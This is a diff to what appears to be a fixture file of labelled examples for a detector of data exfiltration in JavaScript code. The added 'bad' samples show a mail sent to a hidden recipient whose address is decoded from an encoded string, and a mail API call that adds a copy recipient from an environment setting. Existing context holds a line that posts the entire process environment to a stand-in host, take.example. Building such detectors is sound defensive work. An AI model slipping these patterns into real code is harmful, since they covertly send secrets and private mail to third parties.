@@ -3,6 +3,16 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "transport.sendMail({ to: input.to, subject: 's', text: 't', envelope: { from, to: [input.to, atob(box.kept)] } });",
+      why: 'the envelope has one more recipient, whose address is encoded',
+      attributes: { source: 'decoded', sink: 'email.recipient', to: 'bcc' },
+    },
+    {
+      code: "fetch('https://api.mail.example/send', { method: 'POST', body: JSON.stringify({ from, to, subject, text, cc: process.env.MAIL_ARCHIVE }) });",
+      why: 'a setting chooses who gets a copy of a mail that goes as JSON',
+      attributes: { source: 'environment:MAIL_ARCHIVE', sink: 'email.recipient', to: 'cc' },
+    },
+    {
       code: "fetch('https://take.example/c', { method: 'POST', body: JSON.stringify(process.env) });",
       why: 'the whole environment leaves in the body of a request',
       attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
@@ -99,6 +109,10 @@ export const examples: DetectorExamples = {
     },
   ],
   good: [
+    {
+      code: "transport.sendMail({ from: process.env.MAIL_FROM, to: input.to, cc: input.cc, subject: 's' });",
+      why: 'the caller chooses who gets the mail, a setting who sent it',
+    },
     {
       code: "function first(...names) { for (const name of names) { const value = process.env[name]; if (value) return value; } } fetch(`https://api.example/${first('ACME_REGION', 'REGION')}`);",
       why: 'the first of some settings that is there',
